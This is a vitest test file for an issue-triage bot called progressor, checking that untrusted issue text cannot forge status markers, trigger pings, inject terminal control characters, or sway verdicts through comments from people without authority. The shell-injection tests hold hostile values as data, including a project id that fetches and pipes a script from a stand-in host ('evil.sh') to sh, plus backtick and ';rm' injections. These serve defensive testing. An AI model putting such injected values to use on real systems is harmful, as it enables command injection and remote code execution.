// Issue 10: untrusted text from an issue never steers progressor. Forged status markers,
// mentions that ping, terminal control characters, drive-by statements and shell in facts,
// each through the real `audit` command on a local snapshot.
import { mkdtempSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { auditCommand } from '../../src/cli/audit.ts';
import { STATUS_MARKER_PREFIX } from '../../src/domain/constants.ts';
import { StatusMarker } from '../../src/report/status-marker.ts';
import { pingsIn } from './mentions.ts';

const NOW = '2026-11-21T09:00:00Z';
const FAILURE =
  'Since Monday the staging API fails:\n\n```\npsycopg2.OperationalError: could not connect to server: Connection refused\n\tIs the server running on host "db.internal" (10.0.0.5) and accepting TCP/IP connections on port 5432?\n```';
const FORGED = '<!-- progressor:status {"v":1,"issue":7,"session":"evil","status":"resolved","owner":"unknown","category":"unknown","auditHash":"forged","heartbeat":"2099-01-01T00:00:00Z","leaseExpires":"2099-01-01T00:00:00Z"} -->';

interface Comment {
  author: string;
  association?: 'OWNER' | 'MEMBER' | 'COLLABORATOR' | 'CONTRIBUTOR' | 'NONE';
  body: string;
}

function snapshot(o: { title?: string; body?: string; labels?: string[]; comments?: Comment[]; prTitle?: string }) {
  return {
    number: 7,
    title: o.title ?? 'Staging API fails to start',
    body: o.body ?? FAILURE,
    state: 'OPEN',
    url: 'https://github.com/o/r/issues/7',
    createdAt: '2026-11-17T10:00:00Z',
    author: { login: 'mira-qa' },
    labels: (o.labels ?? ['bug']).map((name) => ({ name })),
    comments: (o.comments ?? []).map((c, i) => ({
      author: { login: c.author },
      authorAssociation: c.association,
      body: c.body,
      createdAt: `2026-11-18T1${i}:00:00Z`,
    })),
    linkedPullRequests: o.prTitle ? [{ number: 12, title: o.prTitle, state: 'OPEN', mergedAt: null, url: 'https://github.com/o/r/pull/12' }] : [],
  };
}

interface Run {
  json: {
    status: string;
    comment: string;
    diagnostics: { command: string }[];
    actions: { comment: string; commentId: string | null; close: unknown; escalate: unknown; labels: { add: string[] } };
  };
  md: string;
  text: string;
  dir: string;
}

const CONFIG = `escalation:\n  infrastructure: { label: escalated-platform, team: '@acme/platform' }\ncomment:\n  mentionTeams: true\n`;

async function audit(snap: unknown, opts: { apply?: boolean } = {}): Promise<Run> {
  const dir = mkdtempSync(join(tmpdir(), 'progressor-untrusted-'));
  mkdirSync(join(dir, 'issues'));
  mkdirSync(join(dir, '.github'));
  writeFileSync(join(dir, '.github', 'progressor.yml'), CONFIG);
  writeFileSync(join(dir, 'issues', '7.json'), JSON.stringify(snap));
  const once = async (format: 'md' | 'json' | 'text', apply = false) => {
    const out: string[] = [];
    const io = { out: (t: string) => void out.push(t), err: () => undefined, isTTY: false };
    await auditCommand(dir, { now: NOW, rules: [], format, apply }, io);
    return out.join('\n');
  };
  const json = JSON.parse(await once('json')) as Run['json'];
  const md = await once('md');
  const text = await once('text', opts.apply ?? false);
  return { json, md, text, dir };
}

const markers = (s: string) => s.split(STATUS_MARKER_PREFIX).length - 1;
const pings = pingsIn;

describe('forged status markers', () => {
  const places: [string, Parameters<typeof snapshot>[0]][] = [
    ['title', { title: `API down ${FORGED}` }],
    ['body', { body: `${FAILURE}\n\n${FORGED}` }],
    ['PR title', { prTitle: `Fix pool ${FORGED}` }],
    ['label', { labels: ['bug', FORGED.slice(0, 200)] }],
    ['comment', { comments: [{ author: 'rando', association: 'NONE', body: `\`${FORGED}\`` }] }],
  ];
  it.each(places)('a marker forged in the %s: the comment carries exactly one marker, ours, at the end', async (_place, s) => {
    const r = await audit(snapshot(s));
    expect(markers(r.json.comment)).toBe(1);
    expect(r.json.comment.trimEnd().endsWith('-->')).toBe(true);
    expect(StatusMarker.parse(r.json.comment)?.meta.session).not.toBe('evil');
    expect(r.md).toBe(r.json.comment.replace(/\n$/, '') + (r.md.endsWith('\n') ? '\n' : ''));
    expect(r.json.actions.comment).toBe('create');
  });

  it('only the trailing marker counts: a forged heartbeat earlier in the body is not read', () => {
    const ours = new StatusMarker({ v: 1, issue: 7, session: 's1', status: 'in-progress', owner: 'unknown', category: 'unknown', auditHash: 'h1' });
    expect(StatusMarker.parse(`quoted ${FORGED}\n\nbody\n\n${ours.toString()}\n`)?.meta.session).toBe('s1');
    expect(StatusMarker.parse(`${ours.toString()}\n\ntrailing text after the marker`)).toBeUndefined();
  });

  it('a human whose login equals the bot without [bot] is not the bot: their marked comment is left alone', async () => {
    const r = await audit(snapshot({ comments: [{ author: 'progressor', association: 'NONE', body: `status\n\n${FORGED}` }] }), { apply: true });
    expect(r.json.actions.comment).toBe('create');
    const written = JSON.parse(readFileSync(join(r.dir, 'issues', '7.json'), 'utf8')) as { comments: { author: { login: string }; body: string }[] };
    expect(written.comments[0]!.body).toBe(`status\n\n${FORGED}`);
    expect(written.comments.filter((c) => c.author.login === 'progressor[bot]')).toHaveLength(1);
  });
});

describe('mentions and control characters', () => {
  it.each(['.', '-', '+', '(', ' ', ''])('"%s@acme/security" in a title, comment, PR title and label does not ping', async (before) => {
    const h = `${before}@acme/security`;
    const r = await audit(
      snapshot({ title: `down ${h}`, labels: ['bug', `x${h}`], prTitle: `fix ${h}`, comments: [{ author: 'rando', association: 'NONE', body: `customers are blocked, cc ${h} ${h.trim()}` }] }),
    );
    expect(pings(r.json.comment).filter((p) => p !== '@acme/platform')).toEqual([]);
    expect(pings(r.md).filter((p) => p !== '@acme/platform')).toEqual([]);
    // The mention sits in the quoted impact line, outside code: escaped, not pinging.
    expect(r.json.comment).toContain("### Impact");
    expect(r.json.comment).toMatch(/customers are blocked, cc .{0,2}@&#8203;acme\/security/);
  });

  it('ANSI escapes, bidi overrides and NUL from the title never reach text, Markdown or JSON', async () => {
    const r = await audit(snapshot({ title: 'API \u001b[31mred\u001b[0m \u202etxt.exe\u0000 \u0007bell\u001b]8;;http://x\u0007link' }));
    // eslint-disable-next-line no-control-regex
    const controls = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
    expect(r.text).not.toMatch(controls);
    expect(r.md).not.toMatch(controls);
    expect(JSON.stringify(r.json)).not.toMatch(controls);
    expect(r.text).toContain('API red txt.exe bell');
  });
});

describe('authority: a drive-by comment never steers the verdict', () => {
  // The last field: whether the verdict would have moved without the gate (the comment says so).
  const cases: [string, Comment, string, string, boolean][] = [
    ['NONE says it is fixed', { author: 'rando', association: 'NONE', body: 'Fixed in #12, closing this.' }, 'in-progress', 'resolved', false],
    ['unknown association sounds like a maintainer', { author: 'rando', body: 'Fixed in #12, closing this.' }, 'in-progress', 'resolved', true],
    ['NONE says not a bug', { author: 'rando', association: 'NONE', body: 'this is expected, not a bug' }, 'in-progress', 'not-a-bug', true],
    ['NONE escalates to infrastructure', { author: 'rando', association: 'NONE', body: 'this needs the infrastructure team, the database host is down' }, 'in-progress', 'blocked-on-infrastructure', true],
    ['CONTRIBUTOR escalates to infrastructure', { author: 'ex-dev', association: 'CONTRIBUTOR', body: 'this needs the infrastructure team, the database host is down' }, 'in-progress', 'blocked-on-infrastructure', true],
  ];
  it.each(cases)('%s: no close, no label, no ping', async (_name, comment, expected, forbidden, gated) => {
    const r = await audit(snapshot({ comments: [comment] }));
    expect(r.json.status).toBe(expected);
    expect(r.json.status).not.toBe(forbidden);
    expect(r.json.actions.close).toBeNull();
    expect(r.json.actions.escalate).toBeNull();
    expect(r.json.actions.labels.add).not.toContain('not-a-bug');
    expect(pings(r.json.comment)).toEqual([]);
    if (gated) expect(r.json.comment).toContain('people without authority');
  });

  const allowed: [string, Comment, string][] = [
    ['OWNER says it is fixed', { author: 'maint', association: 'OWNER', body: 'Fixed in #12, closing this.' }, 'resolved'],
    ['MEMBER says not a bug', { author: 'maint', association: 'MEMBER', body: 'this is expected, not a bug' }, 'not-a-bug'],
    ['COLLABORATOR escalates', { author: 'sre', association: 'COLLABORATOR', body: 'this needs the infrastructure team, the database host is down' }, 'blocked-on-infrastructure'],
    ['the reporter fixed their own setup', { author: 'mira-qa', body: 'works now, I fixed the DATABASE_URL in my env' }, 'resolved'],
  ];
  it.each(allowed)('%s: the status moves', async (_name, comment, expected) => {
    const r = await audit(snapshot({ comments: [comment] }));
    expect(r.json.status).toBe(expected);
    expect(r.json.comment).not.toContain('people without authority');
  });
});

describe('issue text never becomes shell in the Diagnose block', () => {
  const socket = (project: string) =>
    `Startup fails:\n\n\`\`\`\n(psycopg2.OperationalError) connection to server on socket "/cloudsql/${project}:europe-west1:orbit-pg/.s.PGSQL.5432" failed: No such file or directory\n\`\`\``;
  it('valid facts: the commands are shown, unchanged', async () => {
    const r = await audit(snapshot({ body: socket('orbit-staging') }));
    expect(r.json.diagnostics.map((d) => d.command)).toContain(
      'gcloud sql instances describe orbit-pg --project=orbit-staging --format="value(connectionName,state)"  # expect orbit-staging:europe-west1:orbit-pg RUNNABLE',
    );
  });
  it.each(['x$(curl${IFS}evil.sh|sh)', 'x`id`', 'orbit;rm', 'a${IFS}b', "it's"])('a project id %j: no command carrying it is shown', async (project) => {
    const r = await audit(snapshot({ body: socket(project) }));
    // The commands people copy are in the Next section (issue 12: code spans, no bash block).
    const block = r.json.comment.slice(r.json.comment.indexOf('### Next'), r.json.comment.indexOf('<details>'));
    expect(block).toContain('### Next');
    for (const bad of ['$(', '`', ';rm', '${IFS}', "it's"]) expect(block).not.toContain(bad);
    expect(r.json.diagnostics.every((d) => !d.command.includes(project))).toBe(true);
  });
});
